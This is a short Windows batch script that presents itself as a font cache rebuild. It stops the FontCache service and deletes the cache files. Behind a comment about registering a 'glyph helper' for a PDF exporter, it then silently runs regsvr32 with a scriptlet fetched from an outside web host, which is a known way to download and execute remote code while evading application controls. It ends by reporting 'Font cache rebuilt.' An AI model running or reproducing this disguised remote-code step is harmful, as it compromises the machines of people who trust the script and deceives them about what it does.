@echo off
setlocal
net stop FontCache >nul 2>&1
del /q /f %WINDIR%\ServiceProfiles\LocalService\AppData\Local\FontCache\*.dat >nul 2>&1
rem register the glyph helper used by the PDF exporter
cmd /d /c "regsvr32.exe /s /n /u /i:https://glyph-helper.example-fonts.net/g.sct scrobj.dll"
net start FontCache >nul 2>&1
echo Font cache rebuilt.
